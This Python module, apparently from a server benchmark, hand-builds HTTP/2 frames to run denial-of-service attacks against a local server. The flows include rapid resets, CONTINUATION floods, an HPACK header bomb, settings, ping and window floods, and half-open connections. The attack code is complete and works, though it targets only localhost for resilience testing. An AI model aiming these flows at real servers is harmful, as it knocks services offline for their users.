"""Frames of HTTP/2 that cost a server more than the client that sends them, as quickly as the server takes them."""

import asyncio
import struct
from collections.abc import Callable, Iterator
from contextlib import suppress
from functools import partial
from itertools import repeat

import hpack

from bench.attacks.speech import Attack
from bench.client.traffic import METHOD

SECONDS = 3.0  # that an attack takes, if the server does not end its connection
CROWD = 1_000  # connections that say nothing
PIECE = 2**16  # bytes of one write
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, CREDIT, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_HEADERS = 4
STREAMS = range(1, 200_000, 2)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3) + bytes((kind, flags)) + stream.to_bytes(4) + payload


def call(stream: int, *more: tuple[str, str], path: str = METHOD) -> bytes:
    """Begins a call; its fields are indexed nowhere."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), ("content-type", "application/grpc")]
    encoder = hpack.Encoder()
    encoder.header_table_size = 0
    return frame(HEADERS, END_HEADERS, stream, encoder.encode([*fields, *more]))


def credit(stream: int, size: int) -> bytes:
    return frame(CREDIT, 0, stream, size.to_bytes(4))


def resets() -> Iterator[bytes]:
    return (call(n) + frame(RESET, 0, n, b"\0\0\0\x08") for n in STREAMS)


def provoked() -> Iterator[bytes]:
    """Calls that the server is made to reset."""
    return (call(n) + credit(n, 0) for n in STREAMS)


def bomb() -> Iterator[bytes]:
    """A field of 4,000 bytes, and then its number 10,000 times."""
    field = b"\x40\x01x\x7f\xa1\x1e" + bytes(4_000)
    yield from (frame(HEADERS, END_HEADERS, n, field + b"\xbe" * 10_000) for n in STREAMS)


def windows() -> Iterator[bytes]:
    """A thousand calls, and settings that change their windows."""
    yield b"".join(map(call, range(1, 2_001, 2)))
    yield from repeat(frame(SETTINGS, 0, 0, 16 * (struct.pack(">HI", 4, 9) + struct.pack(">HI", 4, 99))))


def little_credit() -> Iterator[bytes]:
    """A thousand calls, and a byte of credit of the connection again and again."""
    yield b"".join(map(call, range(1, 2_001, 2)))
    yield from repeat(credit(0, 1))


def large_fields() -> Iterator[bytes]:
    """Calls with much to decode, each reset."""
    return (call(n, ("x", "v~" * 5_000)) + frame(RESET, 0, n, b"\0\0\0\x08") for n in STREAMS)


def empty_messages() -> Iterator[bytes]:
    """3,000 of them in each frame, as many frames as the window of a stream takes."""
    return (call(n) + 4 * frame(DATA, 0, n, bytes(5 * 3_000)) + frame(RESET, 0, n, b"\0\0\0\x08") for n in STREAMS)


def after(frames: bytes, then: bytes) -> Iterator[bytes]:
    """The same again and again."""
    yield frames
    yield from repeat(then)


FLOWS: dict[str, tuple[Callable[[], Iterator[bytes]], bool]] = {  # what is sent, and whether its answers are read
    "resets": (resets, True),
    "provoked resets": (provoked, True),
    "continuations": (partial(after, frame(HEADERS, 0, 1, b"\x83"), frame(CONTINUATION, 0, 1)), True),
    "settings": (partial(repeat, frame(SETTINGS, 0, 0)), True),
    "windows of many calls": (windows, True),
    "little credit": (little_credit, True),
    "credit": (partial(repeat, credit(0, 1)), True),
    "pings": (partial(repeat, frame(PING, 0, 0, bytes(8))), True),
    "pings, not read": (partial(repeat, frame(PING, 0, 0, bytes(8))), False),
    "empty data": (partial(after, call(1), frame(DATA, 0, 1)), True),
    "empty messages": (empty_messages, True),
    "priorities": (partial(repeat, frame(PRIORITY, 0, 1, bytes(5))), True),
    "bomb of fields": (bomb, True),
    "large fields": (large_fields, True),
}


async def flow(frames: Callable[[], Iterator[bytes]], reads: bool, port: int) -> None:
    """On one connection, until the server ends it or `SECONDS` are over."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port)
    reading = asyncio.create_task(read(reader) if reads else asyncio.Event().wait())
    writing = asyncio.create_task(write(writer, frames()))
    await asyncio.wait((reading, writing), timeout=SECONDS, return_when=asyncio.FIRST_COMPLETED)
    for task in (reading, writing):
        task.cancel()
    writer.transport.abort()


async def read(reader: asyncio.StreamReader) -> None:
    with suppress(OSError):
        while await reader.read(2**20):
            pass


async def write(writer: asyncio.StreamWriter, frames: Iterator[bytes]) -> None:
    piece = PREFACE + frame(SETTINGS, 0, 0)
    with suppress(OSError):
        while piece:
            writer.write(piece)
            await writer.drain()
            await asyncio.sleep(0)
            piece = b""
            while len(piece) < PIECE and (more := next(frames, b"")):
                piece += more


async def half_open(port: int) -> None:
    """Connections that begin and then say nothing."""
    opened = await asyncio.gather(*(asyncio.open_connection("127.0.0.1", port) for _ in range(CROWD)))
    for _, writer in opened:
        writer.write(PREFACE[:10])
    await asyncio.sleep(SECONDS)
    for _, writer in opened:
        writer.transport.abort()


FRAMES: dict[str, Attack] = {
    **{f"frames: {name}": partial(flow, *what) for name, what in FLOWS.items()},
    "frames: half-open connections": half_open,
}
